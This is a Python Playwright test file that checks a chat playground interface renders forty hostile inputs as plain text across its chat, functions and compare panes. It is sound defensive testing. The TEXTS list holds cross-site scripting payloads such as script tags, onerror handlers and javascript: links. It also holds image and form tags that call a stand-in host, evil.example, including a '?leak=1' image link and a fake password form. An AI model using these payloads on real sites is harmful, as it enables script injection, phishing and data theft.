"""Forty hostile texts in each of the six places where a conversation is shown: the whole text is
seen, nothing of it becomes an element that acts, and nothing is fetched.
"""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.playground.ui.browser.conftest import opened

# Gradio 6.31 sets an option that pandas 3 deprecates.
pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.filterwarnings("ignore::pandas.errors.Pandas4Warning"),
]
EVIL = "https://evil.example"
TEXTS = (
    "<script>window.ran = 1</script> after",
    "<img src=x onerror='window.ran = 1'> after",
    f"<img src={EVIL}/a.png> after",
    f"![alt]({EVIL}/b.png?leak=1) after",
    f"![alt][ref] after\n\n[ref]: {EVIL}/c.png",
    f"[![inner]({EVIL}/d.png)](#) after",
    f"<video autoplay src={EVIL}/v.mp4></video> after",
    f"<audio autoplay src={EVIL}/a.mp3></audio> after",
    f"<picture><source srcset={EVIL}/s.webp></picture> after",
    f"<iframe src={EVIL}></iframe> after",
    f"<object data={EVIL}></object><embed src={EVIL}> after",
    f"<link rel=stylesheet href={EVIL}/x.css> after",
    f"<style>body {{ background: url({EVIL}/y.png) }}</style> after",
    f"<div style='background:url({EVIL}/z.png)'>inner</div> after",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>overlay</div> after",
    f"<form action={EVIL}><input type=password><button>Log in</button></form> after",
    "<button onclick='window.ran = 1'>press</button> after",
    "<details open ontoggle='window.ran = 1'>details</details> after",
    "<svg onload='window.ran = 1'><circle r=9 /></svg> after",
    "<math><mtext><img src=x onerror='window.ran = 1'></mtext></math> after",
    "<a href='javascript:window.ran = 1'>link</a> after",
    "[link](javascript:window.ran=1) after",
    "<base href=https://evil.example> after",
    "<meta http-equiv=refresh content='0;url=https://evil.example'> after",
    "<marquee><blink>text</blink></marquee> after",
    "<!-- comment --> after <!-- open",
    "<![CDATA[ data ]]> after",
    "<?php echo 1 ?> after",
    "</div></span></body></html> after",
    "<textarea><title><plaintext> after",
    "List<String> names = new ArrayList<String>(); after",
    "if a < b and c > d then x<y and y>z after",
    "&lt;b&gt; &amp;amp; &#60;i&#62; after",
    "```html\n<img src=x onerror='window.ran = 1'>\n```\nafter",
    "```\nunclosed <b>fence",
    "$$\\href{javascript:window.ran=1}{x}$$ and $<b>$ after",
    "```mermaid\ngraph TD; A[\"<img src=x onerror='window.ran = 1'>\"] --> B\n```\nafter",
    "\u202eright to left override\u202c after",
    "שלום עולם. مرحبا <b>bold</b>",
    "A" * 100_000 + " after",
)
ACTIVE = "script, img, video, audio, source, iframe, object, embed, link, style, form, base, meta"
BROKEN_OUT = (
    "place => [...document.querySelectorAll(place + ' *')].filter(e =>"
    " getComputedStyle(e).position === 'fixed' || e.hasAttribute('onclick')"
    " || /^javascript:/i.test(e.getAttribute('href') || '')).length"
)
LONG_MS = 30_000


@pytest.fixture(scope="module")
def hostile(browser: Browser, echo_url: str) -> Iterator[Page]:
    """One page for all of them."""
    with opened(browser, echo_url) as page:
        yield page


def words(text: str) -> str:
    """What of a text must be seen whatever Markdown does to the rest: letters and digits."""
    return re.sub(r"[\W_]+", "", text)


def is_harmless(page: Page, place: str) -> bool:
    inert = page.locator(place).locator(ACTIVE).count() == 0
    return inert and page.evaluate(BROKEN_OUT, place) == 0 and not page.evaluate("window.ran")


def check(page: Page, asked: str, answered: str, text: str) -> None:
    drawn_as_picture = "mermaid" in text or "$$" in text
    assert page.locator(asked).last.inner_text().strip() == text.strip()
    if not drawn_as_picture:
        seen = words(page.locator(answered).last.inner_text())
        # A definition of a link, and the address of one, are not drawn.
        hidden = (
            ("evil.example" in text and "](" in text) or "[ref]" in text or "javascript:" in text
        )
        assert words("after") in seen if hidden and "<" not in text else words(text) in seen


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_a_hostile_text_is_only_text(hostile: Page, text: str) -> None:
    hostile.get_by_role("tab", name="Chat", exact=True).click()
    hostile.click("#new-chat")
    expect(hostile.locator("#chat .message")).to_have_count(0)
    hostile.fill("#message textarea", text)
    hostile.press("#message textarea", "Enter")
    expect(hostile.locator("#status .note")).to_contain_text("token", timeout=LONG_MS)
    check(hostile, "#chat .user .prose", "#chat .bot .prose", text)
    assert is_harmless(hostile, "#chat .message-wrap")

    hostile.get_by_role("tab", name="Functions", exact=True).click()
    hostile.click("#fn-clear")
    expect(hostile.locator("#fn-chat .message")).to_have_count(0)
    hostile.fill("#fn-message textarea", text)
    hostile.press("#fn-message textarea", "Enter")
    expect(hostile.locator(".work-note").first).to_contain_text("token", timeout=LONG_MS)
    check(hostile, "#fn-chat .user .prose", "#fn-chat .bot .prose", text)
    assert is_harmless(hostile, "#fn-chat .message-wrap")

    hostile.get_by_role("tab", name="Compare", exact=True).click()
    hostile.fill("#cmp-question textarea", text)
    hostile.press("#cmp-question textarea", "Enter")
    expect(hostile.locator("#cmp-asked")).to_have_text(re.compile(re.escape(text[:4].strip())))
    expect(hostile.locator("#cmp-vote")).to_be_visible(timeout=LONG_MS)
    check(hostile, "#cmp-asked .question", "#cmp-text-b", text)
    assert is_harmless(hostile, "#cmp-text-a")
    assert is_harmless(hostile, "#cmp-text-b")
